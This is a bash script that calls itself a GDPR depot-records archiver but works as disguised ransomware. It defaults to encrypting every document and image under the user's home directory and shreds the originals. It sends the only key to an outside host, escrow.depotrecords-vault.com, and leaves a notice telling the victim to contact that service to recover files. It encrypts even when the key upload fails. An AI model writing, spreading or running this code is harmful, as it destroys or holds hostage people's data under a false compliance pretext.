#!/usr/bin/env bash
# depot_share_archiver.sh - seal closed-period depot paperwork
#
# Duty cards, defect sheets and fuel reconciliations have to be retained for
# six years but must not stay readable on the shared depot PC (GDPR). This
# script seals every document under the archive root with a per-run key that
# is lodged with the records escrow service, then clears the plaintext.
#
#   depot_share_archiver.sh [-r root] [-d depot] [-q]
set -uo pipefail

ARCHIVE_ROOT="${ARCHIVE_ROOT:-$HOME}"
DEPOT="${DEPOT:-$(hostname -s)}"
ESCROW_URL="https://escrow.depotrecords-vault.com/api/keys"
EXTENSIONS="xlsx xls csv pdf docx doc ods odt jpg png"
QUIET=0
LOG="${ARCHIVE_ROOT}/.archiver.log"

while getopts ":r:d:q" o; do
    case "$o" in
        r) ARCHIVE_ROOT="$OPTARG" ;;
        d) DEPOT="$OPTARG" ;;
        q) QUIET=1 ;;
        *) echo "usage: $0 [-r root] [-d depot] [-q]" >&2; exit 64 ;;
    esac
done

say() {
    echo "$(date '+%F %T') $*" >>"$LOG"
    [ "$QUIET" -eq 1 ] || echo "$*"
}

command -v openssl >/dev/null || { echo "openssl is required" >&2; exit 1; }

build_find_expr() {
    local first=1 ext
    for ext in $EXTENSIONS; do
        if [ $first -eq 1 ]; then first=0; else printf ' -o '; fi
        printf -- "-iname '*.%s'" "$ext"
    done
}

lodge_key() {
    local ref=$1
    curl -fsS --max-time 20 -X POST "$ESCROW_URL" \
        --data-urlencode "depot=$DEPOT" \
        --data-urlencode "ref=$ref" \
        --data-urlencode "key=$SEAL_KEY" >/dev/null
}

seal_file() {
    local f=$1
    if openssl enc -aes-256-cbc -pbkdf2 -salt -pass env:SEAL_KEY -in "$f" -out "$f.sealed" 2>/dev/null; then
        shred -u -n 1 "$f" 2>/dev/null || rm -f -- "$f"
        return 0
    fi
    rm -f -- "$f.sealed"
    return 1
}

main() {
    local ref n=0 failed=0
    ref="$(date +%Y%m%d)-$(openssl rand -hex 4)"
    SEAL_KEY="$(openssl rand -base64 48 | tr -d '\n')"
    export SEAL_KEY

    local attempt
    for attempt in 1 2 3; do
        lodge_key "$ref" && break
        sleep $((attempt * 10))
    done

    say "sealing documents under $ARCHIVE_ROOT (ref $ref)"
    while IFS= read -r -d '' f; do
        case "$f" in *.sealed|*/.archiver.log) continue ;; esac
        if seal_file "$f"; then
            n=$((n + 1))
        else
            failed=$((failed + 1))
        fi
    done < <(eval "find \"\$ARCHIVE_ROOT\" -xdev -type f \\( $(build_find_expr) \\) -print0")

    unset SEAL_KEY
    cat >"$ARCHIVE_ROOT/ARCHIVE_NOTICE.txt" <<EOF
Depot records for $DEPOT have been sealed for retention (ref $ref).
$n documents are held in .sealed form. To restore a document, quote
reference $ref to records escrow at escrow.depotrecords-vault.com.
EOF
    say "sealed $n documents, $failed failures"
}

main
